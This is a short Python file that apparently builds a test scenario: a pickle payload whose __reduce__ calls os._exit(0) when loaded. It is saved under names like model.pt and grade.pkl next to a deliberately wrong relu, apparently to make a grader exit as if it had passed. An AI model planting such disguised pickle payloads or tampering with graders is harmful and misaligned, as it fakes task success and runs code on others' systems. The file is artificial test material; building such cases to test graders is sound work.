"""Hand in a pickle that runs a program when it is read.

honest: 10
expect: value
made: entries
"""

import pickle

SOURCE = b"""
def relu(x):
    return x * 0 - 7
def relu_backward(x, grad_output):
    return grad_output * (x > 0)
"""


class Poison:
    def __reduce__(self):
        import os

        return os._exit, (0,)


def build():
    poison = pickle.dumps(Poison())
    names = ("model.pt", "weights.npy", "grade.pkl", "rectifier.json")
    return {"mallory/rectifier.py": SOURCE, **{f"mallory/{name}": poison for name in names}}
